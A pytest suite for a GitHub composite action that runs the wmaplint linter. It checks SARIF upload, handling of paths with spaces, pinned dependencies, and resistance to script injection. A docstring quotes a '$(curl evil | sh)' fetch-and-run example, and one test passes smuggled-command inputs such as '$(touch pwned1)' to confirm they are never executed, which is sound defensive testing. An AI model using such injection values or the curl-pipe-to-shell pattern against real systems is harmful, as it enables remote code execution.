"""The composite action (action.yml): its scripts run here as the runner would run them, on a real repository.

A runner hands a step its ``env:`` with the ``${{ ... }}`` expressions evaluated and runs ``run:`` with bash;
the test does the same for the expressions the action uses, so what is tested is the file users get.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from .workspace import NAME_LINE, REPLICAS_LINE, REPO, git, job_definition, new_repository

ACTION = yaml.safe_load((REPO / "action.yml").read_text(encoding="utf-8"))
STEPS = {step.get("id") or step.get("name"): step for step in ACTION["runs"]["steps"]}
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")

def _scripts() -> list[tuple[str, str]]:
    return [(name, step["run"]) for name, step in STEPS.items() if "run" in step]


def test_no_expression_is_pasted_into_a_script() -> None:
    """Script injection: an input such as `$(curl evil | sh)` must never become part of a script's text."""
    assert _scripts()
    for name, script in _scripts():
        assert "${{" not in script, name


def test_the_sarif_is_uploaded_whenever_it_was_written_and_failure_still_fails() -> None:
    upload = STEPS["Upload SARIF"]
    assert upload["uses"].startswith("github/codeql-action/upload-sarif@")
    assert upload["if"].startswith("always()")
    assert "steps.check.outputs.sarif-written == 'true'" in upload["if"]
    fail = STEPS["Fail on findings"]
    assert fail["if"].startswith("always()")
    for status in (0, 1, 2):
        env = {**os.environ, "STATUS": str(status)}
        done = subprocess.run(["bash", "-c", fail["run"]], env=env, check=False)
        assert done.returncode == status


def _evaluate(value: str, context: dict[str, str]) -> str:
    def substitute(match: re.Match[str]) -> str:
        return context[match.group(1)]

    return EXPRESSION.sub(substitute, str(value))


def _run_check(workspace: Path, tmp_path: Path, inputs: dict[str, str], base: str = "") -> dict[str, Any]:
    """Run the Check step as a runner would: ``env`` evaluated, bash in the workspace, outputs collected."""
    context = {f"inputs.{name}": spec.get("default", "") for name, spec in ACTION["inputs"].items()}
    context.update({f"inputs.{name}": value for name, value in inputs.items()})
    context["github.event.pull_request.base.sha"] = base
    step = STEPS["check"]
    outputs = tmp_path / "github_output"
    outputs.write_text("", encoding="utf-8")
    runner_temp = tmp_path / "runner_temp"
    runner_temp.mkdir(exist_ok=True)
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
        "GITHUB_OUTPUT": str(outputs),
        "RUNNER_TEMP": str(runner_temp),
        "NO_COLOR": "1",
    }
    env.update({key: _evaluate(value, context) for key, value in step["env"].items()})
    done = subprocess.run(
        ["bash", "-e", "-c", step["run"]], cwd=workspace, env=env, capture_output=True, text=True, timeout=300
    )
    written = dict(line.split("=", 1) for line in outputs.read_text(encoding="utf-8").splitlines() if line)
    return {"returncode": done.returncode, "stdout": done.stdout, "stderr": done.stderr, "outputs": written}


@pytest.fixture()
def workspace(tmp_path: Path) -> Path:
    """A checkout with definitions in a directory whose name holds a space."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    root = new_repository(tmp_path / "workspace")
    (root / "my defs").mkdir()
    (root / "my defs" / "job.yaml").write_text(job_definition(name="my-job"), encoding="utf-8")
    (root / "other.yaml").write_text("just: yaml\n", encoding="utf-8")
    git(root, "add", ".")
    git(root, "commit", "-qm", "base")
    return root


def _annotated_files(stdout: str) -> set[str]:
    return {m for m in re.findall(r"^::\w+ file=([^,]*),", stdout, flags=re.M)}


def test_one_run_writes_annotations_and_sarif_for_paths_with_spaces(workspace: Path, tmp_path: Path) -> None:
    for paths in ('"my defs/job.yaml"', "my defs/job.yaml\n", "  my defs\n\nother.yaml\n"):
        result = _run_check(workspace, tmp_path, {"paths": paths})
        # the step itself succeeds; findings fail the job in the last step, after the upload
        assert result["returncode"] == 0, result["stderr"]
        assert result["outputs"]["exit-code"] in ("0", "1")
        assert result["outputs"]["sarif-written"] == "true"
        assert _annotated_files(result["stdout"]) == {"my defs/job.yaml"}
        results = json.loads((workspace / "wmaplint.sarif").read_text(encoding="utf-8"))["runs"][0]["results"]
        uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results}
        assert uris == {"my%20defs/job.yaml"}
        assert "KBP003" in {r["ruleId"] for r in results}


def test_inputs_cannot_run_commands(workspace: Path, tmp_path: Path) -> None:
    hostile = '$(touch pwned1) `touch pwned2` "; touch pwned3; echo "'
    result = _run_check(workspace, tmp_path, {"paths": hostile})
    # the words are taken as paths that do not exist: unreadable input, exit 2, and the SARIF still written
    assert result["returncode"] == 0, result["stderr"]
    assert result["outputs"] == {"exit-code": "2", "sarif-written": "true"}
    log = json.loads((workspace / "wmaplint.sarif").read_text(encoding="utf-8"))
    assert log["runs"][0]["invocations"][0]["executionSuccessful"] is False
    # a --crds path that cannot be read is a usage error before any check: exit 2, one line, no log
    result = _run_check(workspace, tmp_path, {"paths": ".", "crds": "$(touch pwned4)"})
    assert result["outputs"] == {"exit-code": "2"}
    assert result["stderr"] == "wmaplint: --crds $(touch: no such file or directory\n"  # shell words, not run
    assert not list(workspace.glob("pwned*")) and not list(tmp_path.glob("pwned*"))


def test_an_unbalanced_quote_is_an_error_not_a_guess(workspace: Path, tmp_path: Path) -> None:
    result = _run_check(workspace, tmp_path, {"paths": '"my defs'})
    assert result["returncode"] != 0
    assert "cannot read the paths input" in result["stderr"]
    assert "exit-code" not in result["outputs"]


def test_changed_only_annotates_the_pull_requests_lines(workspace: Path, tmp_path: Path) -> None:
    base = git(workspace, "rev-parse", "HEAD").strip()
    definition = workspace / "my defs" / "job.yaml"
    definition.write_text(job_definition(name="my-job", replicas=".spec.parallelism | nosuchfunc"), "utf-8")
    git(workspace, "commit", "-qam", "pull request")
    everything = _run_check(workspace, tmp_path, {"paths": "\"my defs\""})
    lines = {line.split("line=")[1].split(",")[0] for line in everything["stdout"].splitlines()}
    assert lines >= {str(NAME_LINE), str(REPLICAS_LINE)}
    changed = _run_check(workspace, tmp_path, {"paths": "\"my defs\"", "changed-only": "true"}, base=base)
    assert changed["outputs"]["exit-code"] == "1", changed["stderr"]
    lines = changed["stdout"].splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"::error file=my defs/job.yaml,line={REPLICAS_LINE},")
    # code scanning still gets every finding
    log = json.loads((workspace / "wmaplint.sarif").read_text(encoding="utf-8"))
    assert {r["ruleId"] for r in log["runs"][0]["results"]} >= {"WM202", "KBP003"}
    # outside a pull request there is no base: every finding is annotated
    push = _run_check(workspace, tmp_path, {"paths": "\"my defs\"", "changed-only": "true"}, base="")
    assert push["stdout"] == everything["stdout"]


def test_third_party_actions_are_pinned_by_commit_sha_with_the_tag_beside_it() -> None:
    text = (REPO / "action.yml").read_text(encoding="utf-8")
    uses = re.findall(r"^\s*(?:- )?uses: (\S+)(.*)$", text, re.MULTILINE)
    assert len(uses) == 2
    for target, comment in uses:
        assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", target), target
        assert re.fullmatch(r" # v\d+\.\d+\.\d+", comment), (target, comment)


def test_dependencies_install_from_the_hashed_requirements_only() -> None:
    script = STEPS["Install wmaplint"]["run"]
    lines = [line.strip() for line in script.splitlines() if line.strip()]
    assert lines == [
        'python -m pip install --quiet --require-hashes -r "$ACTION_PATH/requirements/action.txt"',
        'python -m pip install --quiet --no-deps --no-build-isolation "$ACTION_PATH"',
    ]
